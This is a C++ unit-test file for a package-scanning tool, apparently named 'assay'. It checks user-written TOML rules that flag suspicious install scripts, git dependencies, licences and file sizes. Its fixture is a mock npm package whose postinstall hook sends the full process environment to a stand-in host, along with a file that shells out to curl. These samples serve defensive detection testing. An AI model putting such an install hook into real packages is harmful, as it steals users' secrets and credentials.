#include "rules/user/house_rules.h"

#include <gmock/gmock.h>
#include <gtest/gtest.h>

#include "rules/user/user_rules.h"

namespace assay {
namespace {

using testing::Each;
using testing::ElementsAre;
using testing::HasSubstr;
using testing::IsEmpty;
using testing::Not;

constexpr std::string_view thief = R"(==> package.json
{"name": "thief", "version": "1.0.0", "license": "MIT", "scripts": {"postinstall": "node setup.js"},
 "dependencies": {"a": "git+https://code.example.test/a.git", "b": "^1.0.0"}}
==> setup.js
const https = require('https');
const request = https.request({host: 'collect.example.test', path: '/', method: 'POST'});
request.write(JSON.stringify(process.env));
request.end();
==> lib/other.js
require('child_process').exec('curl https://files.example.test/x');
)";

// "path: message" of each finding.
std::vector<std::string> found(std::string_view rules, std::string_view bundle = thief) {
  const Result<std::vector<HouseRule>> read = read_house_rules(rules, "house.toml");
  EXPECT_TRUE(read) << (read ? "" : read.error().message);
  if (!read) return {};
  const Package package = package_from_bundle(bundle);
  Facts facts = collect_facts(package);
  std::vector<Finding> findings;
  UserRules(std::nullopt, *read, "").check(facts, findings);
  std::vector<std::string> lines;
  for (const Finding& finding : findings) {
    const std::string path = finding.where.file < 0 ? "package" : facts.file(finding.where).path;
    lines.push_back(path + ": " + finding.message);
  }
  return lines;
}

std::string refused(std::string_view rules) {
  const Result<std::vector<HouseRule>> read = read_house_rules(rules, "house.toml");
  EXPECT_FALSE(read);
  return read ? "" : read.error().message;
}

std::string rule_when(std::string_view when) {
  return "[[rule]]\nname = \"r\"\ntitle = \"T\"\n[rule.when]\n" + std::string(when);
}

TEST(HouseRules, ActionsAreMatchedByActHostAndData) {
  EXPECT_THAT(
      found(rule_when(
          R"(action = {act = ["send", "fetch"], host-not = "*.corp.example", data = "environment"})")),
      Each(HasSubstr("setup.js: T: send hxxps://collect[.]example[.]test")));
  EXPECT_THAT(found(rule_when(R"(action = {act = "send", host = "*.corp.example"})")), IsEmpty());
  EXPECT_THAT(found(rule_when(R"(action = {act = "send", data-all = ["environment", "wallet"]})")),
              IsEmpty());
  EXPECT_THAT(
      found(rule_when(R"(action = {trigger = "install", at-load = true, in-test = false})")),
      Not(IsEmpty()));
}

TEST(HouseRules, ExecutorsDependenciesManifestsAndFilesAreMatched) {
  EXPECT_THAT(
      found(rule_when(R"(executor = {kind = "npm-script", command = "node *", starts = "*.js"})")),
      ElementsAre("package.json: T: postinstall: node setup.js"));
  EXPECT_THAT(found(rule_when(R"(dependency = {kind = "git", group = "runtime"})")),
              ElementsAre("package.json: T: a git+hxxps://code[.]example[.]test/a.git"));
  EXPECT_THAT(
      found(rule_when(R"(manifest = {ecosystem = "npm", license-not = ["Apache-2.0", "BSD*"]})")),
      ElementsAre("package: T: thief@1.0.0"));
  EXPECT_THAT(
      found(rule_when(
          R"(file = {path = "lib/**", kind = "javascript", size-over = 10, size-under = "1 KiB"})")),
      ElementsAre("lib/other.js: T: lib/other.js"));
  EXPECT_THAT(found(rule_when(R"(file = {path = "lib/**", size-over = "1 MiB"})")), IsEmpty());
}

TEST(HouseRules, PythonRequirementsAreDependencies) {
  constexpr std::string_view bundle = R"(==> PKG-INFO
Metadata-Version: 2.1
Name: demo
Version: 1
Requires-Dist: a @ git+https://code.example.test/a.git
Requires-Dist: b>=1 ; extra == "more"
==> setup.py
1
)";
  EXPECT_THAT(found(rule_when(R"(dependency = {name = "a", kind = "git"})"), bundle),
              ElementsAre("PKG-INFO: T: a git+hxxps://code[.]example[.]test/a.git"));
  EXPECT_THAT(found(rule_when(R"(dependency = {group = "optional"})"), bundle),
              ElementsAre("PKG-INFO: T: b >=1"));
}

TEST(HouseRules, ConditionsAreJoinedByAllAnyAndNot) {
  EXPECT_THAT(
      found(rule_when(R"(all = [{action = {act = "send"}}, {executor = {kind = "npm-script"}}])")),
      Each(HasSubstr("setup.js: T: send")));
  EXPECT_THAT(found(rule_when(R"(all = [{action = {act = "send"}}, {file = {path = "absent"}}])")),
              IsEmpty());
  EXPECT_THAT(
      found(rule_when(R"(any = [{file = {path = "absent"}}, {file = {path = "setup.js"}}])")),
      ElementsAre("setup.js: T: setup.js"));
  EXPECT_THAT(found(rule_when(R"(not = {file = {path = "LICENSE*"}})")), ElementsAre("package: T"));
  EXPECT_THAT(found(rule_when(R"(not = {file = {path = "setup.js"}})")), IsEmpty());
}

TEST(HouseRules, AConditionMayHaveToHoldWithinOneFile) {
  const std::string both =
      rule_when(R"(all = [{action = {act = "send"}}, {action = {api = "*curl*"}}])");
  EXPECT_THAT(found(both), Not(IsEmpty()));
  const std::string in_one = "[[rule]]\nscope = \"file\"\n" + both.substr(both.find('\n') + 1);
  EXPECT_THAT(found(in_one), IsEmpty());
}

TEST(HouseRules, WhatIsMisspeltIsRefusedWithItsLineAndWhatIsPossible) {
  EXPECT_THAT(refused(rule_when("action = {act = \"sned\"}")),
              testing::AllOf(HasSubstr("house.toml:5:"), HasSubstr("'sned' is none of"),
                             HasSubstr("did you mean 'send'?")));
  EXPECT_THAT(refused(rule_when("action = {hots = \"x\"}")),
              testing::AllOf(HasSubstr("house.toml:5:"), HasSubstr("did you mean 'host'?"),
                             HasSubstr("host-not")));
  EXPECT_THAT(refused(rule_when("actoin = {}")), HasSubstr("did you mean 'action'?"));
  EXPECT_THAT(refused("[[rule]]\nname = \"r\"\ntitle = \"T\"\nseverity = \"grave\"\n"),
              testing::AllOf(HasSubstr("house.toml:4:"), HasSubstr("none of info, low")));
  EXPECT_THAT(refused("[[rule]]\nname = \"Bad Name\"\ntitle = \"T\"\n"), HasSubstr("needs a name"));
  EXPECT_THAT(refused("[[rule]]\nname = \"r\"\ntitle = \"T\"\n"), HasSubstr("[rule.when]"));
  EXPECT_THAT(refused(rule_when("")), HasSubstr("needs one of action"));
  EXPECT_THAT(refused(rule_when("file = {size-over = \"big\"}")), HasSubstr("64 KiB"));
  EXPECT_THAT(refused(rule_when("action = {at-load = \"yes\"}")), HasSubstr("true or false"));
  EXPECT_THAT(refused(""), HasSubstr("holds no rules"));
  EXPECT_THAT(refused("[[rule]\n"), HasSubstr("line 1"));
  EXPECT_THAT(
      refused(rule_when("file = {path = \"a\"}") + "\n" + rule_when("file = {path = \"a\"}")),
      HasSubstr("a second rule 'r'"));
  EXPECT_THAT(refused("[[rule]]\nname = \"r\"\ntitle = \"T\"\nscope = \"file\"\nwhen = {not = "
                      "{file = {path = \"a\"}}}"),
              HasSubstr("outside of 'not'"));
}

TEST(HouseRules, ManyAndDeepConditionsAreRefused) {
  std::string deep;
  for (int i = 0; i < 20; ++i) deep += "not = {";
  EXPECT_THAT(refused(rule_when(deep + std::string(20, '}'))),
              HasSubstr("more than 8 conditions inside"));
  HouseBounds bounds;
  bounds.rules = 1;
  const std::string two = rule_when("file = {path = \"a\"}") +
                          "\n[[rule]]\nname = \"s\"\ntitle = \"T\"\nwhen = {file = {path = \"b\"}}";
  EXPECT_THAT(read_house_rules(two, "h", bounds).error().message, HasSubstr("more than 1 rules"));
  EXPECT_THAT(refused(std::string(2 << 20, '#')), HasSubstr("1 MiB"));
}

TEST(HouseRules, ABudgetThatEndsIsToldAndFindsNothingMore) {
  const Package package = package_from_bundle(thief);
  const Facts facts = collect_facts(package);
  const auto rules = read_house_rules(rule_when("not = {file = {path = \"**/*.x\"}}"), "h").value();
  std::vector<Finding> findings;
  HouseCheck check(facts, 100);
  check.check(rules[0], "house:r", findings);
  EXPECT_TRUE(check.is_exhausted());
  EXPECT_THAT(findings, IsEmpty());
}

}  // namespace
}  // namespace assay
